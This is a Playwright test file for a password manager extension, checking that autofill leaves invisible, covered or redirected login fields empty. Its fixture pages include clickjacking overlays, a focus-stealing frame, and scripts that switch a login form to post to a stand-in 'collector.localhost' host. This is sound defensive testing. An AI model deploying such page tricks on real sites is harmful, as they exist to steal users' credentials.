import type { Frame, Page } from "@playwright/test";
import type { OpenVault } from "@pomander/vault";
import { registerAccount } from "../fixtures/accounts.ts";
import { newPerson } from "../fixtures/people.ts";
import { expect, test } from "../fixtures/test.ts";
import { type ExtensionBrowser, signInToExtension, startWithExtension } from "../processes/extension.ts";
import { type Sites, startSites } from "../processes/sites.ts";

const fields = `<label>User name <input name="user"></label> <label>Password <input name="pass" type="password"></label>`;
const logIn = `<form action="/done">${fields}<button>Log in</button></form>`;
/** Covers the page with an element that takes clicks. */
const cover =
  "position: fixed; inset: 0; width: 100vw; height: 100vh; max-width: none; max-height: none; opacity: 0.01";
const foreignFrame = (page: string) =>
  `<script>document.write('<iframe src="' + location.href.replace("shop.", "shop2.").replace(/[^/]*$/, "${page}") + '" title="login" width="600" height="200"></iframe>')</script>`;

/** Pages of sites, by their path. */
const pages = {
  login: logIn,
  // People can't see the fields of these.
  fadedRoot: `${logIn}<style>html { opacity: 0.05 }</style>`,
  fadedBody: `${logIn}<style>body { opacity: 0.05 }</style>`,
  fadedBySteps: `<div style="opacity: 0.8"><div style="opacity: 0.8">${logIn}</div></div>`,
  filtered: `<div style="filter: opacity(0.02)">${logIn}</div>`,
  clipped: `<div style="overflow: hidden; height: 1px">${logIn}</div>`,
  cutOut: `<div style="clip-path: inset(100%)">${logIn}</div>`,
  tiny: `${logIn}<style>input { width: 2px; height: 2px; padding: 0; border: 0 }</style>`,
  overlaid: `${logIn}<div style="${cover}"></div>`,
  popover: `${logIn}<div popover="manual" id="over" style="${cover}"></div><script>over.showPopover();</script>`,
  modal: `${logIn}<dialog id="over" style="${cover}"></dialog><script>over.showModal();</script>`,
  // Frames.
  sandboxed: `<iframe sandbox="allow-scripts allow-forms" src="/login" title="login" width="600" height="200"></iframe>`,
  blank: `<iframe title="login" width="600" height="200"></iframe><script>frames[0].document.write(\`${logIn}\`); frames[0].document.close();</script>`,
  stolen: `${logIn}${foreignFrame("stealing")}`,
  stealing: `${logIn}<script>setInterval(() => document.querySelector("[name=user]").focus(), 20);</script>`,
  // Forms that lead elsewhere.
  buttonElsewhere: logIn.replace("<button>", '<button formaction="https://collector.localhost/">'),
  unencrypted: logIn.replace("/done", "http://secure.localhost/"),
  unencryptedButton: logIn.replace("<button>", '<button formaction="http://secure.localhost/">'),
  leaving: `${logIn}<script>document.querySelector("[name=user]").addEventListener("input", () => {
    document.querySelector("form").action = "https://collector.localhost/"; });</script>`,
  covering: `${logIn}<div id="over" hidden style="${cover}"></div><script>
    document.querySelector("[name=user]").addEventListener("input", () => { over.hidden = false; });</script>`,
};

let browser: ExtensionBrowser;
let sites: Sites;
let encrypted: Sites;

test.beforeAll(async ({ server, launchOptions }) => {
  sites = await startSites(pages);
  encrypted = await startSites(pages, { isEncrypted: true });
  const person = newPerson();
  const { secondDeviceVault: vault } = await registerAccount(server.url, person);
  const store = (title: string, link: string, more: Partial<Parameters<OpenVault["create"]>[0]> = {}) =>
    vault.create({
      title,
      link,
      email: "ana",
      password: `password of ${title}`,
      notes: "",
      category: "",
      tags: [],
      isFavorite: false,
      ...more,
    });
  await store("Shop", sites.address("shop", ""));
  await store("Secure", encrypted.address("secure", ""));
  await store("Bank", String.raw`.*\.bank\.localhost`, { linkMatch: "regex" });
  browser = await startWithExtension(launchOptions);
  await signInToExtension(browser, server.url, person);
});
test.afterAll(async () => {
  await browser?.remove();
  await sites?.close();
  await encrypted?.close();
});

/** Opens an address, which gets a part that no other tab has. */
let opened = 0;
async function openAddress(address: string): Promise<Page> {
  const page = await browser.context.newPage();
  opened += 1;
  await page.goto(`${address}?${opened}`);
  return page;
}
const openSite = (name: keyof typeof pages, site = "shop") => openAddress(sites.address(site, name));

const valuesOf = (place: Page | Frame) =>
  place.evaluate(() => [...document.querySelectorAll("input")].map(({ value }) => value));
const nothing = ["", ""];
const row = (popup: Page, title: string) => popup.getByRole("button", { name: new RegExp(`^${title}.*Fill$`) });

for (const name of [
  "fadedRoot",
  "fadedBody",
  "fadedBySteps",
  "filtered",
  "clipped",
  "cutOut",
  "tiny",
  "overlaid",
  "popover",
  "modal",
] as const) {
  test(`nothing is filled into fields that people can't see, from the popup or by the shortcut: ${name} @slow`, async () => {
    const site = await openSite(name);
    await browser.press("fill", site);
    const popup = await browser.openPopup(site);
    await row(popup, "Shop").click();
    await expect(popup.getByRole("status")).toHaveText(/Nothing was filled|no login to fill/);
    expect(await valuesOf(site)).toEqual(nothing);
    await popup.close();
    await site.close();
  });
}

test("a field that the page covers, or whose form it sends elsewhere, while another one is filled stays empty @slow", async () => {
  for (const name of ["covering", "leaving"] as const) {
    const site = await openSite(name);
    await browser.press("fill", site);
    await expect.poll(() => valuesOf(site)).toEqual(["ana", ""]);
    await site.close();
  }
});
